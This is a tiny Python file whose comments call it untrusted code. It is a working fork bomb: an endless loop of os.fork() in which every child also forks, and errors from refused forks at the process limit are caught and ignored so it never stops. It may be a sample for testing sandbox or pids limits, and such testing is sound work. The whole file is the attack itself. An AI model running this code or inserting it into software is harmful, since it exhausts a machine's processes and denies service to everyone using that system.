# Untrusted code: fork without end; children fork too.  A refused fork
# (EAGAIN at the pids limit) does not stop it.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
